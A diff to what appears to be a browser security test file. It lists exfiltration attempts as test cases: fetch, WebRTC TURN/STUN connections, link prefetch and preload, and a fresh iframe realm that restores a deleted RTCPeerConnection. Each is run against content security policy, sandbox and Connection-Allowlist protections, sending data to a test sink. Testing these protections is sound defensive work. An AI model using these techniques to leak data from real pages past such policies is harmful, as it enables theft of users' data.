@@ -18,7 +18,7 @@ const CHROMIUM = ['chromium'];
 /**
  * `by` says what closes it: `policy` (the meta element, so also from disk), `sandbox` (the policy as a header), `allowlist`
  * (Connection-Allowlist: Chromium). `run` gets where to send (`to(name)` of the sink, with data in the query). `alone`: the page is
- * gone or changed afterwards, so the attack gets one of its own.
+ * gone or changed afterwards, or must be idle, so the attack gets one of its own.
  */
 const ATTACKS = [
   { id: 'a01-fetch', by: 'policy', run: (to) => fetch(to, { mode: 'no-cors' }).catch(() => {}) },
@@ -58,7 +58,7 @@ const ATTACKS = [
   { id: 'a06-turn-udp', by: 'allowlist', udp: true, run: (to, on) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${on.address}:${on.port}`, username: 'Ada', credential: 'x' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } },
   { id: 'a06-turn-tcp', by: 'allowlist', tcp: true, run: (to, on) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${on.address}:${on.port}?transport=tcp`, username: 'Ada', credential: 'x' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } },
   { id: 'a06-fresh-realm', by: 'allowlist', udp: true, alone: true, run: (to, on) => { delete window.RTCPeerConnection; const frame = document.createElement('iframe'); document.body.append(frame); const Peer = frame.contentWindow?.RTCPeerConnection; if (!Peer) return; const peer = new Peer({ iceServers: [{ urls: `stun:${on.address}:${on.port}` }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } },
-  { id: 'a07-prefetch', by: 'policy', run: (to) => { const one = document.createElement('link'); one.rel = 'prefetch'; one.href = to; document.head.append(one); } },
+  { id: 'a07-prefetch', by: 'policy', alone: true, run: (to) => { const one = document.createElement('link'); one.rel = 'prefetch'; one.href = to; document.head.append(one); } },
   { id: 'a07-preload', by: 'policy', run: (to) => { const one = document.createElement('link'); one.rel = 'preload'; one.as = 'image'; one.href = to; document.head.append(one); } },
   { id: 'a07-modulepreload', by: 'policy', run: (to) => { const one = document.createElement('link'); one.rel = 'modulepreload'; one.href = to; document.head.append(one); } },
   // Reaches our own server: a log line there would hold the data.
@@ -120,7 +120,7 @@ async function compare({ driver, site }, url, closed, note) {
   const all = possible(driver.name).filter((attack) => !attack.worker || driver.name === 'chromium');
   // Only what this browser is said to refuse needs a control: the rest proves nothing either way.
   const attacks = all.filter(closed);
-  const control = await strike(driver, site.url('/control'), attacks, site, 15_000);
+  const control = await strike(driver, site.url('/control'), attacks, site, 30_000);
   const missing = attacks.map(({ id }) => id).filter((id) => !control.arrived.includes(id));
   same(missing, [], 'attacks that did not arrive even without a policy, so that they prove nothing');
   // What takes this long to arrive when nothing stops it, and half as long again, would be here by now.
